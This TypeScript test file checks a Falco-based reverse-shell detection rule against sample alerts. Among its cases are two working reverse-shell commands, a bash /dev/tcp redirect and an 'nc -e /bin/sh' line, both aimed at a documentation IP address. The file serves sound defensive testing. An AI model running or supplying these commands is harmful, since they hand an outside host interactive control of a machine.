import { falcoReverseShell } from '../../../../shared/detection/rules/falco-reverse-shell.ts';
import { falcoCases } from '../threat-cases.ts';

describe('falco-reverse-shell', () => {
  falcoCases(falcoReverseShell, {
    fires: [
      [
        'a connection as standard input',
        { rule: 'Redirect STDOUT/STDIN to Network Connection in Container' },
        { severity: 'high', confidence: 0.7 },
      ],
      [
        'a command line of one, under whatever rule',
        { rule: 'Terminal shell in container', command: 'bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' },
        { severity: 'high', confidence: 0.9, conclusive: true },
      ],
      [
        "the parent's command line",
        { rule: 'My own rule', command: 'sh', parentCommand: 'nc -e /bin/sh 203.0.113.9 4444' },
        { severity: 'high', confidence: 0.9, conclusive: true },
      ],
    ],
    misses: [
      [
        'a probe of a port of the same pod',
        { rule: 'Terminal shell in container', command: 'bash -c echo > /dev/tcp/localhost/8080' },
      ],
      [
        'a probe of a port elsewhere, of which nobody is certain',
        { rule: 'Terminal shell in container', command: 'bash -c echo > /dev/tcp/db/5432' },
      ],
    ],
  });
});
